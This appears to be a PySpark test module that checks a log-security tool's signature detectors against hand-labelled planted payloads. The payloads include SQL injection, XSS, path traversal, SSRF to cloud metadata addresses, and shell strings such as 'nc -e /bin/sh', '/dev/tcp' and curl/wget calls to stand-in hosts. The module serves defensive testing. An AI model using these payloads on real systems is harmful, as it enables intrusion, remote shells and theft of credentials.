"""Queries of the signature detectors, over requests with planted payloads and over whole documents.

What each planted payload is was written by hand; the SQL knows that and not the patterns.
"""

from __future__ import annotations

import re

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from vigilog.functions import decode, signatures
from vigilog.plans.registry import query

#: Payloads that are planted by the remainder of an id, and the detectors that should hit: attacks, look-alikes, plain text.
PLANTED: tuple[tuple[str, str], ...] = (
    ("q=1 union select name from users where 1=1", "SQLi"), ("q=1/*!50000union*/ /**/select pass", "SQLi"), ("q=x' or 1=1 --", "SQLi"), ("q=a' or 'a'='a", "SQLi"),
    ("q=1 and 7=7", "SQLi"), ("q=user()", "SQLi"), ("q=@@version", "SQLi"), ("q=1;drop table users", "SQLi"), ("q=sleep(5)", "SQLi"), ("q=1 order by 9", "SQLi"),
    ("q=1 group by x having 1", "SQLi"), ("q=1 waitfor delay 0:0:5", "SQLi"), ("q=insert into t values", "SQLi"), ("q=delete from t", "SQLi"), ("q=update t set a", "SQLi"),
    ("q=1 or true", "SQLi"), ("q=name like '%a", "SQLi"), ("q=1) or (2", "SQLi"), ("q=xp_cmdshell", "SQLi"), ("q=group_concat(a)", "SQLi"), ("q=information_schema", "SQLi"), ("q=system_user", "SQLi"),
    ("q=substring(a,1,1)", "SQLi"), ("q=randomblob(9)", "SQLi"), ("q=extractvalue(1,2)", "SQLi"), ("q=select load_file(a) into outfile b", "SQLi"),
    ("q=<script>alert(1)</script>", "XSS"), ("q=<img src=x onerror=alert(1)>", "XSS"), ("q=javascript:alert(1)", "XSS"), ("q=<svg/onload=confirm`1`>", "XSS"), ("q=document.cookie", "XSS"), ("q=data:text/html,x", "XSS"),
    ("q=x; cat /etc/passwd", "LFI,RCE"), ("q=$(whoami)", "RCE"), ("q=`hostname`", "RCE"), ("q=a|ls", "RCE"), ("q=a && b", "RCE"), ("q=a || b", "RCE"), ("q=a > out.txt", "RCE"), ("q=a 2>&1", "RCE"), ("q=whoami", "RCE"),
    ("q=uname -a", "RCE"), ("q=netstat -an", "RCE"), ("q=ip addr", "RCE"), ("q=bash -i", "RCE"), ("q=nc -e x", "RCE"), ("q=/dev/tcp/10.0.0.9/1", "RCE"), ("q=/usr/bin/env", "RCE"), ("q=system(x)", "RCE"), ("q=cat${IFS}/tmp/x", "PROTOCOL,RCE"),
    ("q=../../secret.txt", "LFI"), ("q=..%c0%af..%c0%afx", "LFI"), ("q=php://filter", "LFI"), ("q=a%00.png", "LFI"), ("q=c:\\windows\\win.ini", "LFI"), ("q=/proc/self/environ", "LFI"),
    ("q=http://169.254.169.254/", "SSRF"), ("q=http://100.100.100.200/", "SSRF"), ("q=http://metadata.google.internal/", "SSRF"), ("q=latest/meta-data", "SSRF"), ("q=metadata-flavor: google", "SSRF"), ("q=gopher://h", "SSRF"), ("q=ws://h", "SSRF"), ("q=ldap://h", "SSRF"),
    ("q=http://127.1/", "SSRF"), ("q=http://127.0.0.1:80/", "SSRF"), ("q=http://0x7f000001/", "SSRF"), ("q=http://2130706433/", "SSRF"), ("q=http://0177.0.0.1/", "SSRF"), ("q=http://[::1]/", "SSRF"), ("q=http://localhost/", "SSRF"), ("q=http://0.0.0.0/", "SSRF"), ("q=file://h/x", "LFI,SSRF"),
    ("q=1\r\nset-cookie: a", "PROTOCOL"), ("x=1&next=//evil.example", "PROTOCOL"), ("q={{7*7}}", "PROTOCOL"),
    ("q=cats and dogs", ""), ("q=plain text", ""), ("q=rock and roll or jazz", ""), ("q=sector 7", ""), ("q=version 1.27.0.1", ""), ("q=union square", ""), ("q=my idea", ""), ("q=a-b_c.d", ""), ("q=catalogue", ""), ("q=price 12.50", ""), ("q=grouped orders", ""), ("q=scripted tests", ""),
)
NAMES = {"f2": ("sqli", "SQLi"), "f3": ("xss", "XSS"), "f4": ("rce", "RCE"), "f6": ("lfi", "LFI"), "f7": ("ssrf", "SSRF"), "f8": ("protocol", "PROTOCOL")}


#: What decoding makes of one of them: bytes that aren't UTF-8 are lost.
DECODED = {"q=..%c0%af..%c0%afx": ""}


def _by(key: str, column: int) -> str:
    """SQL: what is planted by the remainder of a key: payload (0), detectors (1), detectors after decoding (2)."""
    rows = [(*x, DECODED.get(x[0], x[1])) for x in PLANTED]
    return f"CASE {key} % {len(PLANTED)} " + " ".join(f"WHEN {i} THEN '{x[column].replace(chr(39), chr(39) * 2)}'" for i, x in enumerate(rows)) + " END"


def planted(df: DataFrame, key: str, column: int = 0) -> DataFrame:
    """df with the payloads as one map by remainder."""
    table = F.array(*(F.lit(x[column]) for x in PLANTED))
    return df.withColumn("payload", F.element_at(table, (F.col(key) % len(PLANTED) + 1).cast("int")))


def _pages(spark: SparkSession, sf_dir: str) -> DataFrame:
    return planted(spark.read.parquet(f"{sf_dir}/pages.parquet").select("page_id"), "page_id")


def _detector(name: str):
    def run(spark: SparkSession, sf_dir: str) -> DataFrame:
        return _pages(spark, sf_dir).select("page_id", getattr(signatures, f"detect_{name}")(F.col("payload")).alias("hit"))

    return run


for _number, (_name, _tag) in NAMES.items():
    _run = _detector(_name)
    _run.__name__ = f"{_number}_detect_{_name}"
    query(f"SELECT page_id, list_contains(string_split({_by('page_id', 1)}, ','), '{_tag}') AS hit FROM pages")(_run)

#: Lines of error logs that are appended to the documents' first words, and whether a command printed them.
OUTPUTS = (
    ("bash: line 1: foo: command not found", True), ("sh: 1: Syntax error: end of file", True), ("uid=0(root) gid=0(root) groups=0(root)", True), ("TERM environment variable not set.", True),
    ("No LSB modules are available.", True), ("Resolving github.com... 1.2.3.4", True), ("Connecting to github.com|1.2.3.4|:443... connected.", True), ("cat: /etc/shadow: Permission denied", True),
    ("AH00094: Command line: bash: line 1: x", False), ("File does not exist", False), ("client denied by server configuration", False), ("uid of the user is missing", False), ("shutting down", False),
)


def _case(key: str, values: tuple, quoted: bool) -> str:
    shown = [f"'{v}'" if quoted else str(v).lower() for v in values]
    return f"CASE {key} % {len(values)} " + " ".join(f"WHEN {i} THEN {v}" for i, v in enumerate(shown)) + " END"


@query(f"SELECT doc_id, {_case('doc_id', tuple(x[1] for x in OUTPUTS), False)} AS hit FROM documents")
def f5_detect_rce_output(spark: SparkSession, sf_dir: str) -> DataFrame:
    line = F.expr(_case("doc_id", tuple(x[0] for x in OUTPUTS), True))
    # a whole document after the line, with the colons and dots of its own prose taken out
    rest = F.regexp_replace(F.coalesce("text", F.lit("")), "[^A-Za-z ]", " ")
    return spark.read.parquet(f"{sf_dir}/documents.parquet").select("doc_id", signatures.detect_rce_output(F.concat(line, F.lit(" "), rest)).alias("hit"))


#: User agents and whether they are of scanners or scripts.
AGENTS = (
    ("sqlmap/1.7", True), ("", True), ("-", True), ("Googlebot curl/8", False), ("Mozilla/5.0 (X11; Linux) Firefox/120", False), ("Nikto", True), ("python-requests/2", True), ("Python-urllib/3.9", True), ("commix/3", True), ("medusa", True), ("patator", True),
    ("projectdiscovery.io", True), ("Apache-HttpClient/4", True), ("PostmanRuntime/7", True), ("Ruby", True), ("PHP/8", True), ("${jndi:x}", True), ("ZmEu", True), ("Morfeus", True), ("hello-world", True), ("() { :; }; x", True),
    ("Yahoo! Slurp curl/7", False), ("Twitterbot/1.0 python-requests", False), ("LinkedInBot/1.0 (Apache-HttpClient)", False), ("Mozilla/5.0 (iPhone) Safari/604", False), ("Rubyfruit reader", False),
)


@query(f"SELECT event_id, {_case('event_id', tuple(x[1] for x in AGENTS), False)} AS hit FROM events")
def f9_detect_scanner_ua(spark: SparkSession, sf_dir: str) -> DataFrame:
    agent = F.expr(_case("event_id", tuple(x[0] for x in AGENTS), True))
    return spark.read.parquet(f"{sf_dir}/events.parquet").select("event_id", signatures.detect_scanner_ua(agent).alias("hit"))


#: Those that are no payload themselves, since an agent is read as one too.
SOME_AGENTS = (("sqlmap 1.7", True), ("Mozilla", False), ("Googlebot wget", False), ("", True))


def _requests(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A request an event: the planted payload as its query, a planted agent, and an error log's line for every seventh."""
    df = planted(spark.read.parquet(f"{sf_dir}/events.parquet").select("event_id"), "event_id")
    is_error = F.col("event_id") % 7 == 0
    return df.select(
        "event_id", F.lit("/shop").alias("uri_path"), F.col("payload").alias("uri_query"), F.expr(_case("event_id", tuple(x[0] for x in SOME_AGENTS), True)).alias("user_agent"),
        F.when(is_error, "apache_error").otherwise("combined_access").alias("event_source"), F.when(is_error, F.expr(_case("event_id", tuple(x[0] for x in OUTPUTS), True))).alias("error_message"),
    )


_ALERTS = f"""list_sort(CASE WHEN event_id % 7 = 0 THEN CASE WHEN {_case("event_id", tuple(x[1] for x in OUTPUTS), False)} THEN ['RCE_OUTPUT'] ELSE [] END
  ELSE list_concat(list_filter(string_split({_by("event_id", 2)}, ','), lambda x: x <> ''), CASE WHEN {_case("event_id", tuple(x[1] for x in SOME_AGENTS), False)} THEN ['SCANNER'] ELSE [] END) END)"""


@query(f"SELECT event_id, array_to_string({_ALERTS}, ',') AS alerts, len({_ALERTS}) > 0 AS layer1_flagged FROM events")
def f10_tag_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    tagged = signatures.tag_events(_requests(spark, sf_dir), sanitize=False)
    return tagged.select("event_id", F.array_join("layer1_alerts", ",").alias("alerts"), "layer1_flagged")


@query(f"SELECT page_id, array_to_string(list_sort(list_filter(string_split({_by('page_id', 2)}, ','), lambda x: x <> '')), ',') AS alerts, {_by('page_id', 2)} <> '' AS layer1_flagged FROM pages")
def f10_tag_payloads(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Payloads percent-encoded twice, as a request's path and query hide them."""
    hidden = F.expr("url_encode(url_encode(payload))")
    df = _pages(spark, sf_dir).select("page_id", F.lit("/p").alias("uri_path"), F.replace(hidden, F.lit("%2B"), F.lit("%2520")).alias("uri_query"), F.lit("Mozilla").alias("user_agent"), F.lit("combined_access").alias("event_source"))
    tagged = signatures.tag_events(df, sanitize=False)
    return tagged.select("page_id", F.array_join("layer1_alerts", ",").alias("alerts"), "layer1_flagged")


#: What decoding makes of two of them, ~ for NUL: bytes that aren't UTF-8, and a NUL sign.
_TEXTS = {"q=..%c0%af..%c0%afx": "q=..\ufffd\ufffd..\ufffd\ufffdx", "q=a%00.png": "q=a~.png"}
_PLAIN = _by("page_id", 0)
for _before, _after in _TEXTS.items():
    _PLAIN = _PLAIN.replace(f"'{_before}'", f"'{_after}'")


@query(f"SELECT page_id, lower(trim(regexp_replace({_PLAIN}, '[\"''\\[\\]]', '', 'g'))) AS payload FROM pages")
def f1_normalize_payload(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Payloads percent-encoded three times come back as they are, without quotes and square brackets."""
    hidden = F.expr("replace(url_encode(url_encode(replace(url_encode(payload), '+', '%20'))), '+', '%20')")
    return _pages(spark, sf_dir).select("page_id", F.trim(F.replace(decode.normalize_payload(hidden), F.lit("\0"), F.lit("~"))).alias("payload"))


#: Attacks with a number of the text in them, that stand within its words; {} is the number.
EMBEDDED = {
    "SQLi": ("' or {}={} --", "-1 union all select {},a,b", "'; drop table t{};"),
    "XSS": ("<script>alert({})</script>", "<svg onload=f({})>", "<a href=javascript:f({})>"),
    "RCE": ("; curl h{}.example/x", "| nc -e /bin/sh h{} 80", "$(wget h{}.example)"),
    "LFI": ("../../../{}/etc/passwd", "php://filter/{}", "..\\..\\{}.ini"),
    "SSRF": ("http://169.254.169.254/{}", "gopher://h{}/", "http://127.0.0.1:{}/"),
    "PROTOCOL": ("{{{{{}*7}}}}", "x\r\nset-cookie: a={}", "${{{}*7}}"),
}


def _embedded(number: Column, name: str) -> Column:
    """The attack of a number: the kinds of EMBEDDED in turn."""
    found = None
    for k, text in enumerate(EMBEDDED[name]):
        parts = [F.lit(p.replace("{{", "{").replace("}}", "}")) for p in re.split(r"(?<!\{)\{\}|(?<=\{\{\{\{)\{\}|(?<=\$\{\{)\{\}", text)]
        whole = parts[0]
        for p in parts[1:]:
            whole = F.concat(whole, number.cast("string"), p)
        found = F.when(number % len(EMBEDDED[name]) == k, whole) if found is None else found.when(number % len(EMBEDDED[name]) == k, whole)
    return found


@query(f"""WITH b AS (SELECT (SELECT count(*) FROM documents) + (SELECT count(*) FROM conversations) AS benign, (SELECT count(*) FROM documents) AS attacks)
SELECT detector, attacks, attacks AS detected, benign, true AS quiet FROM b, (SELECT unnest({list(EMBEDDED)}) AS detector)""")
def a21_detectors_on_texts(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Each detector over whole documents and turns of conversations, which are benign, and over documents with an attack within their words.

    SQL knows that every attack has to be found, and that a detector is quiet: at most one in a hundred benign texts is a hit.
    """
    docs = spark.read.parquet(f"{sf_dir}/documents.parquet").select("doc_id", F.coalesce("text", F.lit("")).alias("text"))
    turns = spark.read.parquet(f"{sf_dir}/conversations.parquet").select(F.coalesce("text", F.lit("")).alias("text"))
    tests = signatures.DETECTORS
    hits = docs.select("text").union(turns).select(*(tests[n](F.col("text")).cast("long").alias(n) for n in EMBEDDED))
    benign = hits.agg(F.count("*").alias("benign"), *(F.sum(n).alias(n) for n in EMBEDDED))
    at = F.instr("text", " ")
    within = lambda n: F.concat(F.substring("text", F.lit(1), at), _embedded(F.col("doc_id"), n), F.lit(" "), F.substring("text", at + 1, F.length("text")))
    found = docs.select(*(tests[n](within(n)).cast("long").alias(n) for n in EMBEDDED)).agg(F.count("*").alias("attacks"), *(F.sum(n).alias(f"{n}_found") for n in EMBEDDED))
    rows = F.explode(F.array(*(F.struct(F.lit(n).alias("detector"), "attacks", F.col(f"{n}_found").alias("detected"), "benign", (100 * F.col(n) <= F.col("benign")).alias("quiet")) for n in EMBEDDED)))
    return benign.crossJoin(F.broadcast(found)).select(rows.alias("r")).select("r.*")
